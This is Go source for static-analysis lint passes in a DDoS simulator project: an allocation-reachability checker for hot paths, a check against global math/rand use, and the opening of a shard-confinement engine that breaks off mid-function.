// AllocConfig seeds the allocation-reachability engine. Function keys
// are "pkgpath.Recv.Name" (funcKey).
type AllocConfig struct {
	// Roots: seeded hot-path roots — functions whose bodies (and
	// transitive callees) must not allocate, before any annotation.
	Roots map[string]bool
	// AllocFree: sanctioned pooled constructors. Their bodies are not
	// swept (the free-list refill inside is the amortized-allocation
	// idiom) and their allocSummary is pinned alloc-free, so callers
	// building on the pool summarize as alloc-free too.
	AllocFree map[string]bool
	// AllocPkgs: import-path prefixes of stdlib packages whose calls
	// are reported as allocating outright (fmt.Sprintf and friends
	// allocate regardless of arguments).
	AllocPkgs []string
}

// DefaultAllocConfig matches DDoSim's hot-path contract: the
// scheduler's enqueue and run loop are seeded roots, the pooled
// packet path is the sanctioned constructor.
func DefaultAllocConfig() *AllocConfig {
	const (
		simpkg = "ddosim/internal/sim"
		netsim = "ddosim/internal/netsim"
	)
	return &AllocConfig{
		Roots: map[string]bool{
			simpkg + ".Scheduler.ScheduleAtSrc": true,
			simpkg + ".Scheduler.scheduleMsg":   true,
			simpkg + ".Scheduler.run":           true,
		},
		AllocFree: map[string]bool{
			netsim + ".pktPool.get": true,
			netsim + ".pktPool.put": true,
		},
		AllocPkgs: []string{"fmt", "strings", "strconv", "bytes", "errors", "sort", "log"},
	}
}

// allocSummary is the interprocedural allocation fact for one unit:
// whether any execution of it can allocate, and — when it can — the
// first site (or callee) that makes it so. Mirrors the ownership
// engine's summary fixpoint: facts start optimistic (alloc-free) and
// monotonically flip to allocating until the graph stabilizes.
type allocSummary struct {
	allocates bool
	why       string
}

// allocEngine runs the analysis once per Prepare over the whole run.
// It owns a private confEngine for the graph machinery (units, CHA
// callees, BFS, inventory); findings replay per package through the
// usual Pass filter.
type allocEngine struct {
	cfg      *AllocConfig
	g        *confEngine
	prepared bool

	edges      map[*confUnit][]calleeEdge
	ownSites   map[*confUnit][]allocSite
	summaries  map[*confUnit]*allocSummary
	sanctioned map[*confUnit]bool
}

// allocSite is one allocation a unit performs directly.
type allocSite struct {
	pos  token.Pos
	kind string // short class for the inventory (closure, make, boxing, …)
	what string // human description for the diagnostic
}

func newAllocEngine(cfg *AllocConfig, conf *ConfineConfig) *allocEngine {
	return &allocEngine{
		cfg:        cfg,
		g:          newConfEngine(conf),
		edges:      make(map[*confUnit][]calleeEdge),
		ownSites:   make(map[*confUnit][]allocSite),
		summaries:  make(map[*confUnit]*allocSummary),
		sanctioned: make(map[*confUnit]bool),
	}
}

// NewAllocFree returns the allocfree analyzer with DDoSim's hot-path
// contract baked in.
func NewAllocFree() Analyzer {
	return &allocAnalyzer{eng: newAllocEngine(DefaultAllocConfig(), DefaultConfineConfig())}
}

type allocAnalyzer struct {
	eng *allocEngine
}

func (a *allocAnalyzer) Name() string { return "allocfree" }
func (a *allocAnalyzer) Doc() string {
	return "forbid allocation sites reachable from a declared hot path (//simlint:hotpath or seeded roots)"
}

func (a *allocAnalyzer) Prepare(pkgs []*Package) { a.eng.prepare(pkgs) }

func (a *allocAnalyzer) Run(pass *Pass) {
	for _, f := range a.eng.g.findings[pass.Pkg] {
		if f.analyzer != "allocfree" {
			continue
		}
		pass.Reportf("allocfree", f.pos, "%s", f.msg)
	}
}

// prepare builds the graph, marks hot roots (seeds + annotations),
// closes reachability without descending into sanctioned pooled
// constructors, runs the allocSummary fixpoint, and sweeps every
// reached unit for allocation sites. Idempotent.
func (eng *allocEngine) prepare(pkgs []*Package) {
	if eng.prepared {
		return
	}
	eng.prepared = true
	g := eng.g
	g.collectNamedTypes(pkgs)
	for _, pkg := range pkgs {
		g.units = append(g.units, g.collectConfUnits(pkg)...)
	}
	eng.markHotRoots(pkgs)
	// Sanctioned pooled constructors: pre-marking them reached keeps
	// the BFS from descending into their refill bodies and from
	// sweeping them.
	for _, u := range g.units {
		if u.fn != nil && eng.cfg.AllocFree[funcKey(u.fn)] {
			u.reached = true
			eng.sanctioned[u] = true
		}
	}
	for _, u := range g.units {
		eng.edges[u] = g.callees(u)
		eng.ownSites[u] = eng.sites(u)
	}
	g.propagate()
	eng.computeAllocSummaries()
	for _, u := range g.units {
		if u.reached && !eng.sanctioned[u] {
			eng.sweep(u)
		}
	}
}

// markHotRoots marks seeded roots and //simlint:hotpath-annotated
// declarations, emitting one "hotpath" inventory row per root. A
// hotpath directive that is not part of a function declaration's doc
// comment is itself a finding: a floating annotation roots nothing.
func (eng *allocEngine) markHotRoots(pkgs []*Package) {
	g := eng.g
	for _, u := range g.units {
		if u.fn != nil && eng.cfg.Roots[funcKey(u.fn)] {
			u.root = true
			u.rootWhy = "seeded hot path"
			g.addInventory(u, u.fn.Pos(), "allocfree", "hotpath", u.desc, "seeded root")
		}
	}
	for _, pkg := range pkgs {
		consumed := make(map[*ast.Comment]bool)
		for _, file := range pkg.Files {
			ast.Inspect(file, func(n ast.Node) bool {
				decl, ok := n.(*ast.FuncDecl)
				if !ok || decl.Doc == nil {
					return true
				}
				for _, c := range decl.Doc.List {
					if !hotpathRe.MatchString(c.Text) {
						continue
					}
					consumed[c] = true
					fn, _ := pkg.Info.Defs[decl.Name].(*types.Func)
					if fn == nil {
						continue
					}
					if u := g.byFn[fn]; u != nil && !u.root {
						u.root = true
						u.rootWhy = "declared hot path (//simlint:hotpath)"
						g.addInventory(u, decl.Name.Pos(), "allocfree", "hotpath", u.desc, "//simlint:hotpath")
					}
				}
				return true
			})
			for _, group := range file.Comments {
				for _, c := range group.List {
					if hotpathRe.MatchString(c.Text) && !consumed[c] {
						g.findings[pkg] = append(g.findings[pkg], confFinding{
							analyzer: "allocfree",
							pos:      c.Pos(),
							msg:      "simlint:hotpath must be part of a function declaration's doc comment; a floating directive roots nothing",
						})
					}
				}
			}
		}
	}
}

// computeAllocSummaries derives, to a fixpoint over the cached call
// graph, whether each unit can allocate. Seeded alloc-free units are
// pinned: the pool's amortized refill does not count against its
// callers, which is what lets getPacket-style constructors summarize
// as alloc-free at steady state.
func (eng *allocEngine) computeAllocSummaries() {
	for _, u := range eng.g.units {
		s := &allocSummary{}
		if !eng.sanctioned[u] && len(eng.ownSites[u]) > 0 {
			s.allocates = true
			s.why = eng.ownSites[u][0].what
		}
		eng.summaries[u] = s
	}
	for {
		changed := false
		for _, u := range eng.g.units {
			s := eng.summaries[u]
			if s.allocates || eng.sanctioned[u] {
				continue
			}
			for _, e := range eng.edges[u] {
				if cs := eng.summaries[e.to]; cs != nil && cs.allocates && !eng.sanctioned[e.to] {
					s.allocates = true
					s.why = "calls " + e.to.desc + " (" + cs.why + ")"
					changed = true
					break
				}
			}
		}
		if !changed {
			return
		}
	}
}

// summaryFor reports the allocSummary of the unit with the given
// funcKey, for tests and tooling.
func (eng *allocEngine) summaryFor(key string) (*allocSummary, bool) {
	for _, u := range eng.g.units {
		if u.fn != nil && funcKey(u.fn) == key {
			return eng.summaries[u], true
		}
	}
	return nil, false
}

// sweep emits one finding (and inventory row) per allocation site of
// a reached unit, chained back to its hot root.
func (eng *allocEngine) sweep(u *confUnit) {
	for _, s := range eng.ownSites[u] {
		eng.g.findings[u.pkg] = append(eng.g.findings[u.pkg], confFinding{
			analyzer: "allocfree",
			pos:      s.pos,
			msg:      fmt.Sprintf("hot-path allocation: %s (reached via %s)", s.what, u.chain()),
		})
		eng.g.addInventory(u, s.pos, "allocfree", "violation", s.kind, s.what)
	}
}

// posRange is a half-open source interval.
type posRange struct{ lo, hi token.Pos }

// sites classifies every allocation a unit performs directly,
// excluding nested literal bodies (their own units) and panic
// arguments (terminal paths).
func (eng *allocEngine) sites(u *confUnit) []allocSite {
	info := u.pkg.Info
	var exempt []posRange
	ast.Inspect(u.body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok && id.Name == "panic" {
			if _, builtin := info.Uses[id].(*types.Builtin); builtin {
				exempt = append(exempt, posRange{call.Pos(), call.End()})
			}
		}
		return true
	})
	inExempt := func(p token.Pos) bool {
		for _, r := range exempt {
			if p >= r.lo && p < r.hi {
				return true
			}
		}
		return false
	}

	var out []allocSite
	seen := make(map[string]bool)
	add := func(pos token.Pos, kind, what string) {
		if inExempt(pos) {
			return
		}
		key := fmt.Sprintf("%d/%s", pos, kind)
		if seen[key] {
			return
		}
		seen[key] = true
		out = append(out, allocSite{pos: pos, kind: kind, what: what})
	}

	ast.Inspect(u.body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.FuncLit:
			if n == u.lit {
				return true
			}
			if vars := eng.captures(u, n); len(vars) > 0 {
				add(n.Pos(), "closure", fmt.Sprintf(
					"func literal captures %s; every evaluation allocates a closure", strings.Join(vars, ", ")))
			}
			return false // nested literal bodies are their own units
		case *ast.CallExpr:
			eng.callSites(u, n, add)
		case *ast.UnaryExpr:
			if n.Op == token.AND {
				if _, ok := ast.Unparen(n.X).(*ast.CompositeLit); ok {
					add(n.Pos(), "composite", "&composite literal escapes to the heap")
				}
			}
		case *ast.CompositeLit:
			switch ut := info.TypeOf(n).Underlying().(type) {
			case *types.Slice:
				add(n.Pos(), "composite", "slice literal allocates its backing array")
			case *types.Map:
				add(n.Pos(), "composite", "map literal allocates")
			case *types.Struct:
				eng.structLitSites(u, n, ut, add)
			}
		case *ast.AssignStmt:
			eng.assignSites(u, n, add)
		case *ast.IncDecStmt:
			if idx, ok := ast.Unparen(n.X).(*ast.IndexExpr); ok && isMapIndex(info, idx) {
				add(n.X.Pos(), "mapwrite", "map write may allocate (bucket growth on insert)")
			}
		case *ast.ValueSpec:
			var t types.Type
			if n.Type != nil {
				t = info.TypeOf(n.Type)
			}
			for _, v := range n.Values {
				eng.valueSite(u, v, t, "value", add)
			}
		case *ast.ReturnStmt:
			res := u.sig.Results()
			if len(n.Results) == res.Len() {
				for i, e := range n.Results {
					eng.valueSite(u, e, res.At(i).Type(), "result", add)
				}
			}
		case *ast.BinaryExpr:
			if n.Op == token.ADD && isStringType(info.TypeOf(n)) {
				if tv, ok := info.Types[n]; ok && tv.Value == nil {
					add(n.Pos(), "concat", "string concatenation allocates")
				}
			}
		}
		return true
	})
	return out
}

// callSites classifies the allocations a single call performs:
// builtins (new/make/append), string↔[]byte conversions, calls into
// allocating stdlib packages, boxing of concrete arguments into
// interface parameters, and the variadic argument slice.
func (eng *allocEngine) callSites(u *confUnit, call *ast.CallExpr, add func(token.Pos, string, string)) {
	info := u.pkg.Info
	if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok {
		if _, builtin := info.Uses[id].(*types.Builtin); builtin {
			switch id.Name {
			case "new":
				add(call.Pos(), "new", "new() allocates")
			case "make":
				add(call.Pos(), "make", "make() allocates")
			case "append":
				add(call.Pos(), "append", "append may grow its backing array")
			}
			return
		}
	}
	if tv, ok := info.Types[call.Fun]; ok && tv.IsType() {
		// Type conversion: string↔[]byte and string↔[]rune copy.
		if len(call.Args) == 1 {
			dst, src := tv.Type, info.TypeOf(call.Args[0])
			if conversionAllocates(dst, src) {
				add(call.Pos(), "conversion", fmt.Sprintf(
					"%s→%s conversion copies and allocates", typeStr(src), typeStr(dst)))
			}
		}
		return
	}
	if fn := eng.g.funcFor(u.pkg, call); fn != nil && fn.Pkg() != nil && !eng.g.inModule(fn.Pkg().Path()) {
		path := fn.Pkg().Path()
		for _, prefix := range eng.cfg.AllocPkgs {
			if path == prefix || strings.HasPrefix(path, prefix+"/") {
				add(call.Pos(), "extcall", fmt.Sprintf("call to %s.%s allocates", path, fn.Name()))
				break
			}
		}
	}
	sig, _ := info.TypeOf(call.Fun).Underlying().(*types.Signature)
	if sig == nil {
		return
	}
	params := sig.Params()
	np := params.Len()
	for i, arg := range call.Args {
		var pt types.Type
		switch {
		case sig.Variadic() && i >= np-1:
			if call.Ellipsis.IsValid() {
				pt = params.At(np - 1).Type()
			} else if st, ok := params.At(np - 1).Type().(*types.Slice); ok {
				pt = st.Elem()
			}
		case i < np:
			pt = params.At(i).Type()
		}
		eng.valueSite(u, arg, pt, "argument", add)
	}
	if sig.Variadic() && !call.Ellipsis.IsValid() && len(call.Args) >= np {
		add(call.Pos(), "variadic", "variadic call allocates its argument slice")
	}
}

// assignSites classifies map writes and interface boxing on the two
// sides of an assignment.
func (eng *allocEngine) assignSites(u *confUnit, n *ast.AssignStmt, add func(token.Pos, string, string)) {
	info := u.pkg.Info
	for _, lhs := range n.Lhs {
		if idx, ok := ast.Unparen(lhs).(*ast.IndexExpr); ok && isMapIndex(info, idx) {
			add(lhs.Pos(), "mapwrite", "map write may allocate (bucket growth on insert)")
		}
	}
	if len(n.Lhs) != len(n.Rhs) {
		return
	}
	for i, lhs := range n.Lhs {
		if isIdentName(lhs, "_") {
			continue
		}
		eng.valueSite(u, n.Rhs[i], info.TypeOf(lhs), "value", add)
	}
}

// structLitSites reports boxing performed inside a struct composite
// literal: a concrete value stored into an interface-typed field
// allocates exactly as an interface assignment does.
func (eng *allocEngine) structLitSites(u *confUnit, lit *ast.CompositeLit, st *types.Struct, add func(token.Pos, string, string)) {
	fieldByName := func(name string) *types.Var {
		for i := 0; i < st.NumFields(); i++ {
			if st.Field(i).Name() == name {
				return st.Field(i)
			}
		}
		return nil
	}
	for i, el := range lit.Elts {
		var ft types.Type
		val := el
		if kv, ok := el.(*ast.KeyValueExpr); ok {
			key, _ := kv.Key.(*ast.Ident)
			if key == nil {
				continue
			}
			if f := fieldByName(key.Name); f != nil {
				ft = f.Type()
			}
			val = kv.Value
		} else if i < st.NumFields() {
			ft = st.Field(i).Type()
		}
		eng.valueSite(u, val, ft, "field", add)
	}
}

// valueSite reports the allocation performed by storing expr into a
// destination of type target (nil when unknown): interface boxing, or
// the closure allocated by evaluating a bound method value.
func (eng *allocEngine) valueSite(u *confUnit, expr ast.Expr, target types.Type, role string, add func(token.Pos, string, string)) {
	info := u.pkg.Info
	if fn, ok := methodValue(info, expr); ok {
		add(expr.Pos(), "methodvalue", fmt.Sprintf(
			"bound method value %s allocates a closure per evaluation; bind it once in setup", fn.Name()))
		return
	}
	if boxes(info, expr, target) {
		add(expr.Pos(), "boxing", fmt.Sprintf(
			"%s %s boxed into %s allocates", typeStr(info.TypeOf(expr)), role, typeStr(target)))
	}
}

// methodValue reports whether expr is a bound method value — x.M used
// as a value, not called — which allocates a closure binding the
// receiver on every evaluation. Method expressions (T.M) and plain
// function references are static and exempt. Callers only pass
// value-position expressions, never a CallExpr's Fun.
func methodValue(info *types.Info, expr ast.Expr) (*types.Func, bool) {
	sel, ok := ast.Unparen(expr).(*ast.SelectorExpr)
	if !ok {
		return nil, false
	}
	fn, ok := info.Uses[sel.Sel].(*types.Func)
	if !ok {
		return nil, false
	}
	if selection, ok := info.Selections[sel]; ok && selection.Kind() == types.MethodVal {
		return fn, true
	}
	return nil, false
}

// captures lists the variables a nested literal closes over: any
// non-package-level variable declared outside the literal. A literal
// that captures nothing compiles to a static closure and does not
// allocate per evaluation.
func (eng *allocEngine) captures(u *confUnit, lit *ast.FuncLit) []string {
	var names []string
	seen := make(map[*types.Var]bool)
	ast.Inspect(lit, func(n ast.Node) bool {
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		v, _ := u.pkg.Info.Uses[id].(*types.Var)
		if v == nil || v.IsField() || isPkgLevel(v) || seen[v] {
			return true
		}
		if v.Pos() >= lit.Pos() && v.Pos() < lit.End() {
			return true // declared inside the literal (params, locals)
		}
		seen[v] = true
		names = append(names, v.Name())
		return true
	})
	return names
}

// boxes reports whether assigning/passing expr into target performs
// an allocating interface conversion: a concrete, non-pointer-shaped,
// non-constant value into an interface. Pointer-shaped values
// (pointers, maps, channels, funcs) fit the interface data word;
// constants are boxed at link time.
func boxes(info *types.Info, expr ast.Expr, target types.Type) bool {
	if target == nil {
		return false
	}
	iface, ok := target.Underlying().(*types.Interface)
	if !ok || iface == nil {
		return false
	}
	tv, ok := info.Types[expr]
	if !ok || tv.Type == nil || tv.Value != nil {
		return false
	}
	t := tv.Type
	if t == types.Typ[types.UntypedNil] {
		return false
	}
	if _, isIface := t.Underlying().(*types.Interface); isIface {
		return false
	}
	switch t.Underlying().(type) {
	case *types.Pointer, *types.Map, *types.Chan, *types.Signature:
		return false
	}
	if b, ok := t.Underlying().(*types.Basic); ok && b.Kind() == types.UnsafePointer {
		return false
	}
	return true
}

// conversionAllocates reports whether a dst(src) conversion copies
// into fresh memory: string↔[]byte and string↔[]rune in either
// direction.
func conversionAllocates(dst, src types.Type) bool {
	return (isStringType(dst) && isByteOrRuneSlice(src)) ||
		(isByteOrRuneSlice(dst) && isStringType(src))
}

func isStringType(t types.Type) bool {
	if t == nil {
		return false
	}
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&types.IsString != 0
}

func isByteOrRuneSlice(t types.Type) bool {
	if t == nil {
		return false
	}
	s, ok := t.Underlying().(*types.Slice)
	if !ok {
		return false
	}
	b, ok := s.Elem().Underlying().(*types.Basic)
	return ok && (b.Kind() == types.Byte || b.Kind() == types.Rune ||
		b.Kind() == types.Uint8 || b.Kind() == types.Int32)
}

func isMapIndex(info *types.Info, idx *ast.IndexExpr) bool {
	t := info.TypeOf(idx.X)
	if t == nil {
		return false
	}
	_, ok := t.Underlying().(*types.Map)
	return ok
}
