package lint

import (
	"go/ast"
	"go/types"
)

// randConstructors are the math/rand functions that build an
// explicitly-seeded generator — the only package-level entry points
// simulation code may use.
var randConstructors = map[string]bool{
	"New": true, "NewSource": true, "NewZipf": true,
}

// GlobalRand flags package-level math/rand use. The global generator
// is shared hidden state: one extra draw anywhere reshuffles every
// subsequent draw across all subsystems, so randomness must flow
// through injected *rand.Rand values seeded from the run config.
type GlobalRand struct{}

// NewGlobalRand returns the analyzer.
func NewGlobalRand() *GlobalRand { return &GlobalRand{} }

func (g *GlobalRand) Name() string { return "globalrand" }

func (g *GlobalRand) Doc() string {
	return "forbid package-level math/rand functions and unseeded rand.New"
}

func (g *GlobalRand) Run(pass *Pass) {
	for _, file := range pass.Pkg.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.CallExpr:
				// rand.New(x) where x is not a literal rand.NewSource
				// call hides where the seed comes from; require the
				// seeded-source idiom inline.
				fn := pass.FuncFor(n)
				if fn == nil || fn.Pkg() == nil || fn.Pkg().Path() != "math/rand" || fn.Name() != "New" {
					return true
				}
				if sig, ok := fn.Type().(*types.Signature); ok && sig.Recv() != nil {
					return true
				}
				if len(n.Args) != 1 || !isNewSourceCall(pass, n.Args[0]) {
					pass.Reportf(g.Name(), n.Pos(),
						"rand.New without an inline rand.NewSource(seed); construct generators as rand.New(rand.NewSource(seed))")
				}
			case *ast.Ident:
				fn, ok := pass.Pkg.Info.Uses[n].(*types.Func)
				if !ok || fn.Pkg() == nil || fn.Pkg().Path() != "math/rand" {
					return true
				}
				if sig, ok := fn.Type().(*types.Signature); ok && sig.Recv() != nil {
					return true // methods on an injected *rand.Rand are the approved idiom
				}
				if !randConstructors[fn.Name()] {
					pass.Reportf(g.Name(), n.Pos(),
						"package-level rand.%s draws from the shared global generator; inject a seeded *rand.Rand instead", fn.Name())
				}
			}
			return true
		})
	}
}

func isNewSourceCall(pass *Pass, e ast.Expr) bool {
	call, ok := ast.Unparen(e).(*ast.CallExpr)
	if !ok {
		return false
	}
	fn := pass.FuncFor(call)
	return fn != nil && fn.Pkg() != nil && fn.Pkg().Path() == "math/rand" && fn.Name() == "NewSource"
}
