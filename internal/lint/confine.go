package lint

// confine.go is the shard-confinement engine behind the shardconfine
// and crossnode analyzers — the static proof obligation in front of
// ROADMAP item 1 (the sharded parallel event kernel). The sharding
// design only preserves byte-identical-same-seed if every event
// handler touches nothing but the state of its own partition, with
// cross-partition interaction confined to the timestamped message
// path (Node.SendPacket / NetDevice.Send / the link's in-flight
// queue). This engine classifies, for every function reachable from a
// scheduler callback (reach.go), the provenance of each mutated value:
//
//   - own: the handler's receiver and everything reached from it
//     while staying inside its partition subtree. Partition-owned
//     types (the netsim/container infrastructure, the co-located
//     mirai/attacker/defense applications, core.Dev) own their linked
//     structure: a Node reaching its devices, a device its node, a
//     bot its own node's sockets — all shard-local;
//   - foreign: a partition-owned value acquired any other way — read
//     out of control-plane state (faults' linkTarget.dev, churn's
//     Device entries), captured from an enclosing non-partition
//     frame (core's fault closures capturing a Dev), received as a
//     parameter from nowhere, or returned by a seeded crossing
//     (Network.Node registry lookups, NetDevice.Peer);
//   - global: package-level variables, which no partition owns.
//
// Mutating a foreign tracked value (Node, NetDevice, Dev, Container —
// the data-race surface of the sharded kernel) or writing a global is
// reported: crossnode for values the handler acquired itself
// (registry/neighbor/control-plane step), shardconfine for globals
// and for foreign state that entered the handler from outside
// (captures, parameters). Calls into the sanctioned boundary APIs are
// never findings; they are recorded in the inventory as the message-
// path crossings the sharding PR will keep.
//
// Like the ownership engine, anything the classifier cannot model
// widens toward silence — a missed finding is recoverable (the
// simdebug confinement sanitizer in internal/netsim catches the
// dynamic side), a false alarm on the hot path is not.

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
)

// ConfineConfig seeds the shard-confinement engine with the repo's
// partition model. Function keys are "pkgpath.Recv.Name" (funcKey),
// type keys "pkgpath.Name".
type ConfineConfig struct {
	// Module is the module path; only module packages contribute
	// handler roots and call edges.
	Module string
	// SchedPkg is the scheduler package whose Schedule*/NewTicker
	// arguments are precise handler roots.
	SchedPkg string
	// PartitionPkgs: every named type of these packages is
	// partition-owned (shard-local infrastructure and co-located
	// applications).
	PartitionPkgs map[string]bool
	// PartitionTypes: additional partition-owned types by key.
	PartitionTypes map[string]bool
	// TrackedTypes: partition-owned types whose foreign mutation is
	// reported — the data-race surface of the sharded kernel.
	TrackedTypes map[string]bool
	// Crossings: functions returning a value from a different
	// partition (registry lookups, the link-peer accessor).
	Crossings map[string]bool
	// Boundaries: the sanctioned cross-partition message path. Calls
	// are inventoried, never reported.
	Boundaries map[string]bool
	// Barriers: functions that run their func-literal argument in
	// barrier context — at an epoch barrier (or during single-threaded
	// setup) with every shard worker parked. Mutations inside such a
	// literal are the sanctioned barrier idiom: they are inventoried
	// with class "barrier" instead of reported. A callback armed
	// *inside* a barrier body (Schedule*, an escaping closure) runs
	// later, outside the barrier, and is analyzed as a normal handler.
	Barriers map[string]bool
	// Mutators: seeded receiver-mutating functions, used when the
	// defining package is outside the run (fixtures).
	Mutators map[string]bool
	// ExemptPkgs: package paths (prefix-matched) whose function values
	// never become handler roots — host-side drivers that run off the
	// simulated clock.
	ExemptPkgs map[string]bool
}

// DefaultConfineConfig matches DDoSim's partition model: netsim and
// container infrastructure plus the co-located application layers are
// shard-local; core (except Dev), churn, faults, sim, and obs are
// control-plane.
func DefaultConfineConfig() *ConfineConfig {
	const (
		netsim    = "ddosim/internal/netsim"
		container = "ddosim/internal/container"
		mirai     = "ddosim/internal/mirai"
		attacker  = "ddosim/internal/attacker"
		defense   = "ddosim/internal/defense"
		shttp     = "ddosim/internal/shttp"
		core      = "ddosim/internal/core"
		simpkg    = "ddosim/internal/sim"
	)
	return &ConfineConfig{
		Module:   "ddosim",
		SchedPkg: "ddosim/internal/sim",
		PartitionPkgs: map[string]bool{
			netsim: true, container: true, mirai: true, attacker: true, defense: true, shttp: true,
		},
		PartitionTypes: map[string]bool{
			core + ".Dev": true,
		},
		TrackedTypes: map[string]bool{
			netsim + ".Node":         true,
			netsim + ".NetDevice":    true,
			core + ".Dev":            true,
			container + ".Container": true,
		},
		Crossings: map[string]bool{
			netsim + ".Network.Node":   true,
			netsim + ".Network.Nodes":  true,
			netsim + ".NetDevice.Peer": true,
		},
		Boundaries: map[string]bool{
			netsim + ".Node.SendPacket":      true,
			netsim + ".NetDevice.Send":       true,
			netsim + ".NetDevice.receive":    true,
			netsim + ".UDPSocket.SendTo":     true,
			netsim + ".UDPSocket.SendPadded": true,
			netsim + ".TCPConn.Send":         true,
			// The sharded kernel's mailbox: a timestamped message to
			// another LP (or to the control plane) is *the* sanctioned
			// cross-partition effect, whatever chain produced the LP.
			simpkg + ".LP.Send":     true,
			simpkg + ".LP.SendFunc": true,
		},
		Barriers: map[string]bool{
			// ShardSet.WithLP attributes setup-/barrier-time work to an
			// LP; Scheduler.Barrier is the ctl-side marker for a
			// control-plane handler mutating partition state with the
			// world stopped (it panics on a worker-shard scheduler).
			// core's withLP is the Simulation-level wrapper over
			// ShardSet.WithLP (a plain call on the classic kernel).
			simpkg + ".ShardSet.WithLP":   true,
			simpkg + ".Scheduler.Barrier": true,
			core + ".Simulation.withLP":   true,
		},
		Mutators: map[string]bool{
			netsim + ".Node.AddAddr":            true,
			netsim + ".Node.AddRoute":           true,
			netsim + ".Node.SetDefaultDevice":   true,
			netsim + ".Node.SetForwarding":      true,
			netsim + ".Node.JoinMulticast":      true,
			netsim + ".Node.LeaveMulticast":     true,
			netsim + ".Node.AddTap":             true,
			netsim + ".Node.SetFilter":          true,
			netsim + ".Node.BindUDP":            true,
			netsim + ".NetDevice.SetUp":         true,
			netsim + ".NetDevice.SetRate":       true,
			netsim + ".NetDevice.SetLossRate":   true,
			netsim + ".NetDevice.SetQueueLimit": true,
			core + ".Dev.SetOnline":             true,
			container + ".Container.Spawn":      true,
			container + ".Container.ExecFile":   true,
			container + ".Container.Kill":       true,
			container + ".Container.Start":      true,
			container + ".Container.Stop":       true,
		},
		ExemptPkgs: map[string]bool{
			"ddosim/cmd":                  true,
			"ddosim/ddosim":               true,
			"ddosim/internal/report":      true,
			"ddosim/internal/experiments": true,
		},
	}
}

// provKind classifies how a handler came to hold a value.
type provKind uint8

const (
	provOwn      provKind = iota // self state, or partition subtree of self
	provGlobal                   // package-level variable
	provStep                     // control-plane state stepping into a partition value
	provCrossing                 // seeded crossing call (registry, peer)
	provParam                    // partition-typed parameter of a non-partition unit
	provCaptured                 // foreign value captured from an enclosing frame
	provUnknown
)

// prov is the provenance of one expression chain.
type prov struct {
	kind provKind
	// inPartition: the chain is inside a partition-owned subtree
	// rooted at the handler's own receiver.
	inPartition bool
	// ft is the type at the foreign transition (the value whose
	// partition was crossed into); nil for own/global/unknown.
	ft types.Type
	// via names the crossing for diagnostics (funcKey or field).
	via string
}

func ownProv(inPartition bool) prov { return prov{kind: provOwn, inPartition: inPartition} }

func (p prov) foreign() bool {
	switch p.kind {
	case provStep, provCrossing, provParam, provCaptured:
		return true
	}
	return false
}

// confFinding is one stored diagnostic, replayed through a Pass.
type confFinding struct {
	analyzer string
	pos      token.Pos
	msg      string
}

// mutSummary records whether a function mutates state reachable from
// its receiver or parameters, directly or transitively.
type mutSummary struct {
	recv   bool
	params map[int]bool
}

// confEngine is the shared engine behind the shardconfine/crossnode
// pair. Prepare runs once over the whole run; each analyzer replays
// its findings per package.
type confEngine struct {
	cfg      *ConfineConfig
	prepared bool

	units      []*confUnit
	byFn       map[*types.Func]*confUnit
	byLit      map[*ast.FuncLit]*confUnit
	namedTypes []*types.Named
	summaries  map[*types.Func]*mutSummary

	partIface  map[*types.Interface]bool
	trackIface map[*types.Interface]bool

	// assigns indexes, per unit, the right-hand sides assigned to each
	// local variable (plus ranged expressions), for provenance lookups.
	assigns map[*confUnit]map[*types.Var][]provSource
	varMemo map[*types.Var]prov

	findings  map[*Package][]confFinding
	inventory []InventoryEntry
}

// provSource is one assignment feeding a variable: either a plain
// expression or the element of a ranged expression.
type provSource struct {
	expr   ast.Expr
	ranged bool
	resIdx int // result index for multi-value calls; -1 otherwise
	unit   *confUnit
}

func newConfEngine(cfg *ConfineConfig) *confEngine {
	return &confEngine{
		cfg:        cfg,
		byFn:       make(map[*types.Func]*confUnit),
		byLit:      make(map[*ast.FuncLit]*confUnit),
		summaries:  make(map[*types.Func]*mutSummary),
		partIface:  make(map[*types.Interface]bool),
		trackIface: make(map[*types.Interface]bool),
		assigns:    make(map[*confUnit]map[*types.Var][]provSource),
		varMemo:    make(map[*types.Var]prov),
		findings:   make(map[*Package][]confFinding),
	}
}

// NewShardConfinement returns the shardconfine and crossnode
// analyzers on one shared engine, in that order.
func NewShardConfinement() (Analyzer, Analyzer) {
	eng := newConfEngine(DefaultConfineConfig())
	return &confAnalyzer{
			name: "shardconfine",
			doc:  "forbid scheduler-reachable writes to package-level state or to captured foreign partition state",
			eng:  eng,
		}, &confAnalyzer{
			name: "crossnode",
			doc:  "forbid handlers that obtain a different node/device and mutate it outside the message path",
			eng:  eng,
		}
}

type confAnalyzer struct {
	name string
	doc  string
	eng  *confEngine
}

func (a *confAnalyzer) Name() string { return a.name }
func (a *confAnalyzer) Doc() string  { return a.doc }

func (a *confAnalyzer) Prepare(pkgs []*Package) { a.eng.prepare(pkgs) }

func (a *confAnalyzer) Run(pass *Pass) {
	for _, f := range a.eng.findings[pass.Pkg] {
		if f.analyzer != a.name {
			continue
		}
		pass.Reportf(a.name, f.pos, "%s", f.msg)
	}
}

// prepare runs unit collection, root marking, reachability,
// mutation-summary fixpoint, and the reporting sweep. Idempotent.
func (eng *confEngine) prepare(pkgs []*Package) {
	if eng.prepared {
		return
	}
	eng.prepared = true
	eng.collectNamedTypes(pkgs)
	for _, pkg := range pkgs {
		eng.units = append(eng.units, eng.collectConfUnits(pkg)...)
	}
	for _, pkg := range pkgs {
		eng.markRoots(pkg)
	}
	eng.propagate()
	eng.computeSummaries()
	for _, u := range eng.units {
		if u.reached {
			eng.reportUnit(u)
		}
	}
}

// ---- mutation summaries ----------------------------------------------

// computeSummaries derives, to a fixpoint, whether each declared
// function mutates state reachable from its receiver or parameters.
func (eng *confEngine) computeSummaries() {
	for round := 0; round < 10; round++ {
		changed := false
		for _, u := range eng.units {
			if u.fn == nil {
				continue
			}
			sum := eng.summarizeUnit(u)
			old := eng.summaries[u.fn]
			if old == nil {
				eng.summaries[u.fn] = sum
				changed = true
				continue
			}
			if sum.recv && !old.recv {
